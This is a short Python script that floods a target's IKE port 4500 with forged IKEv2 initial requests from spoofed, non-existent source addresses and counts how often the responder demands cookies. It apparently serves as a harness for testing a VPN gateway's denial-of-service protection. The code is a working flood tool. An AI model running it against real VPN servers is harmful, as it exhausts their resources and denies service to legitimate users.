"""Sends first requests of IKE to port 4500 of an address from 20,000 ports of each of 50 addresses that no host has:

    ike_flood.py INTERFACE TARGET REQUESTS REPORT

Sends REQUESTS, and then as many again up to TIMES_MAX times, until the file `flooded-enough` exists.
Appends to REPORT: `begun`, and at the end `sent NUMBER: N cookies demanded, N other answers`.
"""
import os, select, socket, struct, sys

ADDRESSES, PORTS, BATCH = 50, 20_000, 500
TIMES_MAX = 20
ENOUGH = "flooded-enough"
COOKIE = struct.pack("!H", 16390)


def request():
    """AES-256-GCM, HMAC-SHA2-384 and X25519, a random public value and a nonce."""
    transforms = bytes.fromhex("0300000c01000014800e0100" "0300000802000006" "000000080400001f")
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    sa = struct.pack("!BBH", 34, 0, 4 + len(proposal)) + proposal
    ke = struct.pack("!BBHHH", 40, 0, 40, 31, 0) + os.urandom(32)
    nonce = struct.pack("!BBH", 0, 0, 36) + os.urandom(32)
    body = sa + ke + nonce
    header = bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 8, 0, 28 + len(body))
    return header + body


interface, target, requests, report = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
rest = request()
udp_bytes = 8 + 4 + 8 + len(rest)
ip_end = struct.pack("!BBH", 64, 17, 0)
ip_begin = struct.pack("!BBHHH", 0x45, 0, 20 + udp_bytes, 0, 0)
to = socket.inet_aton(target)
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
answers = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
answers.bind((interface, 0))
answers.setblocking(False)
cookies = others = 0


def count():
    global cookies, others
    try:
        while True:
            packet, address = answers.recvfrom(256)
            if address[2] != 4 and packet[9] == 17 and packet[16:19] == bytes([10, 99, 1]):
                # Behind the headers of IP and UDP, the marker, and the header of IKE: a notification.
                if packet[20 + 8 + 4 + 28 + 6 :][:2] == COOKIE:
                    cookies += 1
                else:
                    others += 1
    except BlockingIOError:
        pass


def send(number):
    source = bytes([10, 99, 1, 1 + number % ADDRESSES])
    port = 1024 + number // ADDRESSES % PORTS
    udp = struct.pack("!HHHH", port, 4500, udp_bytes, 0)
    spi = (number + 1).to_bytes(8, "big")
    sender.sendto(b"".join((ip_begin, ip_end, source, to, udp, bytes(4), spi, rest)), (target, 0))


with open(report, "a") as output:
    print("begun", file=output)
number = 0
while number < requests or number < TIMES_MAX * requests and not os.path.exists(ENOUGH):
    send(number)
    if number % BATCH == 0:
        count()
    number += 1
select.select([answers], [], [], 1)
count()
with open(report, "a") as output:
    print(f"sent {number}: {cookies} cookies demanded, {others} other answers", file=output)
